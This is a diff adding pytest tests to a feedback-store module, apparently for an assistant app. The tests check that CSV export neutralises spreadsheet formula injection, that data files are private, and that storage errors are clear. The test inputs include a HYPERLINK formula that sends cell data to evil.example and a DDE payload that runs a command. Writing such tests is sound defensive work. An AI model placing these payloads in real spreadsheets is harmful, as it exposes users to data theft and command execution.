@@ -8,13 +8,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import stat
 import threading
 from datetime import datetime
 from pathlib import Path
 
 import pytest
 
-from assistant.feedback import Feedback, FeedbackError, FeedbackStore
+from assistant.feedback import Feedback, FeedbackError, FeedbackStorageError, FeedbackStore
 
 CITATIONS = [
     {
@@ -138,3 +139,56 @@ def test_export_jsonl_writes_one_object_per_line(feedback_store: FeedbackStore) 
     assert lines[0]["citations"][0]["quote"].startswith("EU har som mål")
     with pytest.raises(FeedbackError, match="format"):
         feedback_store.export(io.StringIO(), "xml")  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")',
+        "=cmd|' /C calc'!A0",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path, hostile: str) -> None:
+    store = FeedbackStore(tmp_path / "feedback.sqlite3")
+    store.add(feedback(question=hostile, comment=hostile))
+    out = io.StringIO()
+    store.export(out, "csv")
+
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["question"] == "'" + hostile
+    assert row["comment"] == "'" + hostile
+    lines = io.StringIO()
+    store.export(lines, "jsonl")
+    assert json.loads(lines.getvalue())["question"] == hostile  # JSON Lines stay as given
+
+
+def test_csv_export_leaves_ordinary_text_as_it_is(tmp_path: Path) -> None:
+    store = FeedbackStore(tmp_path / "feedback.sqlite3")
+    store.add(feedback(comment="Bra svar – takk! 2 + 2 = 4"))
+    out = io.StringIO()
+    store.export(out, "csv")
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["comment"] == "Bra svar – takk! 2 + 2 = 4"
+    assert row["question"] == "Hvilket tiårsmål dekker eliminering av HPV?"
+
+
+def test_the_feedback_file_and_its_folder_are_private(tmp_path: Path) -> None:
+    store = FeedbackStore.in_folder(tmp_path / "data")
+    store.add(feedback())
+    assert stat.S_IMODE((tmp_path / "data").stat().st_mode) == 0o700
+    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
+
+
+def test_an_unwritable_folder_is_a_storage_error_naming_it(tmp_path: Path) -> None:
+    blocker = tmp_path / "not-a-folder"
+    blocker.write_text("a file where a folder should be")
+    store = FeedbackStore.in_folder(blocker / "data")
+    with pytest.raises(FeedbackStorageError) as caught:
+        store.add(feedback())
+    assert str(caught.value).startswith(f"Feedback cannot be stored in {blocker / 'data'}")
+    assert "ASSISTANT_SERVER__DATA_DIR" in str(caught.value)
